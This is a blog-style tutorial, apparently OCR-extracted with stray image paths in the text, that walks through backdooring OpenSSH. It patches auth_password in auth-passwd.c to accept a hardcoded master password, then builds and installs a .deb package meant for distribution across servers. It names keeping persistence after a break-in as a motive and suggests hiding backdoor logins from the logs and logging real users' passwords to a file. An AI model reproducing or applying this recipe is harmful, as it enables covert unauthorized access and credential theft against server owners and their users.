Backdooring the OpenSSH server


I’m not responsible for what you do whit this knowledge… bla bla bla, whatever…
This is the serious part: You can break the ssh server and lock yourself out, be careful.

What is openssh-server?

OpenSSH-server is an open-source software that allows users to control their computer/server using an ssh client, this software is widely used by sysadmins to manage their servers.

What exactly are we going to do?

  • We are going to download the source code of openssh-server.
  • Edit the code to always accept the password “master_of_puppets”
  • Compile the code and make a binary package so we can easily distribute it.

Why would you want to backdoor the OpenSSH daemon?

There are a lot of reasons why you would want to do this, here’s some of them:

  • Let’s say you want to have a universal password so you can ssh as any user you want using the same password.
  • You hate remembering different passwords on thousands of servers you have.
  • You hacked the NSA and you want to maintain persistence.

The process

Getting the source code

So the first step is to get the source code of the openssh-server, there are multiple ways of doing this, the main git repository is hosted here git:// but for the sake of simplicity I’m going to download the source code using aptitude (the builtin package manager on Debian), I’m also going to make a separate directory for our project

mkdir /tmp/sin && cd /tmp/sin
apt-get source openssh-server

Coding-in the backdoor

Okay so now we should edit the part of the source code that handles the password login and make it accept our master password. Sonormally you would have to find the place you want to edit on your own but I cheated found a patch file that automates this whole process on GitHub(I’ll leave the link to it in the bottom of this post) and saw that it patches the ‘auth-passwd.c’ file.
So lets open the ‘auth-passwd.c’ file in our favorite editor and edit some code!

nano /tmp/sin/openssh-7.4p1/auth-passwd.c

The file is quite small so we can easily find the password checking function, because OpenSSH is coded in the C language it’s smart to look for ‘strcmp’ (this function compares two strings), comments can help too :)

auth_password function with comment

So now we know that the ‘auth_password’ function is responsible for checking the password, it takes two arguments:

auth_password(Authctxt *authctxt, const char *password)

authctxt is a struct that is defined in auth.h, but we don’t need it.
password is a char array that holds the client’s password.
Ok so we know that this function returns true if the password is correct, let’s add an if statement that compares the password variable with our master password and return true if they match:if (strcmp(password, "master_of_puppets") == 0)
    return 1;

Add this code to the beginning of the auth_password function and you’re set.
Now the beginning of the function should look like this:

patched code

Compiling the code

Let’s change our working directory to our source directory.

cd /tmp/sin/openssh-7.4p1

You will need to install some dependencies to compile the code, if your system is using aptitude it’s as simple as:

apt-get build-dep openssh-server

Now all you have to do is compile! Let’s compile a.deb file so we can install our version of openssh-server on other servers without the need of recompiling it for everyserver you own:

dpkg-buildpackage -rfakeroot -uc -b

Installing our version of openssh-server

The deb package should now be one directory higher that the source code (in our case it’s in /tmp/sin)
We can now install our package:dpkg -i openssh-server_7.4p1-10+deb9u2_i386.deb

The package name will differ you can use ls to see what files you have in the directory.


Let’s ssh to ourselves to test if the master password works:


Let’s enter our master password and:

successful login

We are in!

Final notes

You can improve this by:

  • Stop logging of master password logins
  • Logging legit user passwords to a file

The purpose of this tutorial was to show you how easy it is to add your own code to open-source software,make you aware of the dangers ofbackdoors and teach you how to add backdoors to open-source software.

Source links